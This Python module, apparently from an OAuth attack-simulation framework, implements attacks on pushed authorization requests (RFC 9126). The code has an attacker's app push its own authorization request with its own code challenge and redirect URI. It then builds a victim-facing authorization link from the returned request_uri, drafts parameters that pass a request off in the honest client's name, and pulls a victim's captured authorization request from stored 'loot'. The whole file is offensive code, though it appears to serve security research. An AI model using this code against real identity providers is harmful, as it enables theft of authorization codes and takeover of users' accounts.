"""What an attacker does with authorization requests that are pushed (RFC 9126)."""

from urllib.parse import urlencode

from attacker.hunt import Method
from attacker.loot import LootItem, NothingCapturedError
from attacker.own_client import OWN_CLIENT_ID, OWN_REDIRECT_URI
from attacker.thief import Thief
from attacker.vantage import Leg


async def link_to_own_push(thief: Thief) -> str:
    """A link that names the honest client, and a request that the thief's own app has pushed.

    The challenge is the thief's own, and so is the redirect URI. Raises
    :class:`NothingCapturedError` when the provider does not take what the app may push.
    """
    await thief.study_client()
    pushed = {
        "client_id": OWN_CLIENT_ID,
        "redirect_uri": OWN_REDIRECT_URI,
        "response_type": "code",
        "scope": "openid profile",
        "code_challenge": await thief.verifiers.choose(),
        "code_challenge_method": Method.S256,
    }
    answer = await thief.http.post(
        thief.metadata["pushed_authorization_request_endpoint"], data=pushed
    )
    reference = answer.json().get("request_uri")
    if reference is None:
        raise NothingCapturedError("the provider took no request of the thief's own app")
    client_id = thief.loot.need("client_id", Leg.OWN).value
    carried = {"client_id": client_id, "request_uri": reference}
    link = f"{thief.metadata['authorization_endpoint']}?{urlencode(carried)}"
    _kept(thief, link, thief.own_exchange, "with a reference of its own")
    return link


def written_out(thief: Thief) -> dict[str, str | None]:
    """What makes of a reference a request that says all by itself, in the honest client's name.

    For whoever has signed in at the client before, and so knows where it has its codes sent.
    """
    return {
        "request_uri": None,
        "response_type": "code",
        "redirect_uri": thief.known_redirect_uri(),
        "scope": "openid profile",
    }


def request_of_the_victim(thief: Thief) -> LootItem:
    """The victim's authorization request, as it was seen.

    Raises :class:`NothingCapturedError`.
    """
    for seen in reversed(thief.loot.sightings):
        if seen.leg is Leg.AUTHORIZATION_REQUEST:
            return _kept(thief, seen.text, seen.seen_in, seen.where)
    raise NothingCapturedError("the thief never saw an authorization request of the victim's")


def _kept(thief: Thief, url: str, seen_in: str, where: str) -> LootItem:
    return thief.loot.add(LootItem("authorization_request", url, Leg.OWN, seen_in, where))
